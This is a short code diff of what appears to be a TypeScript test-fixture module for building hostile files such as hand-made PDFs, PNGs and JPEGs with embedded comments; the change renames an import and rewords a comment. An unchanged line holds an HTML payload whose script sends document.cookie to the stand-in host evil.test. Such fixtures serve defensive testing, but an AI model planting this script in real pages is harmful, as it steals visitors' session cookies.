@@ -1,12 +1,12 @@
 import { archive } from './archive.ts';
 import { family, type HostileFile } from './hostile-file.ts';
 import { pdfByHand } from './pdf-by-hand.ts';
-import { smallPicture } from './pictures.ts';
+import { smallPicture } from './small-picture.ts';
 import { chunk } from './png-by-hand.ts';
 
 const page = '<html><body><script>fetch("//evil.test/"+document.cookie)</script></body></html>';
 
-// In front of a JPEG's picture stands a remark nobody looks at.
+// A JPEG comment before the image data.
 export function withRemark(jpeg: Buffer, remark: Buffer | string): Buffer {
   const body = Buffer.from(remark);
   const head = Buffer.alloc(4);
